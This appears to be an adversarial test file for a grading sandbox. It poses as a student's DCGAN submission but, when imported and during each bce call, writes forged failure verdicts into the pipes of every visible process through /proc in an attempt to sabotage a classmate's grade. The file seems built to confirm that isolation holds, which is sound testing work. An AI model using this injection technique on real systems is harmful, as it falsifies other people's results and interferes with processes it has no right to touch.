"""Attack: write "failed" verdicts and forged answers into the pipes of every process it can see
(/proc/<pid>/fd/<n>), at import and for a few seconds in bce, to rewrite a classmate's grade.
Must not achieve: any change to another submission's grade (its own namespace holds only its own
processes); the batch, its server and its report stay intact."""
import json
import os
import time

from reference.part1_dcgan import *  # noqa: F401,F403
from reference.part1_dcgan import bce as _bce

FORGED = [{"event": "failed", "message": "forged by a classmate"}, {"event": "result", "passed": False,
          "message": "forged by a classmate", "details": {}}, {"event": "reply", "n": 1, "failed": "forged"}]


def _spray():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                    with open(f"/proc/{pid}/fd/{fd}", "w") as pipe:
                        for n in range(1, 40):
                            pipe.write(json.dumps({**FORGED[n % 3], "n": n}) + "\n")
            except OSError:
                pass


_spray()


def bce(p, target):
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        _spray()
        time.sleep(0.2)
    return _bce(p, target)
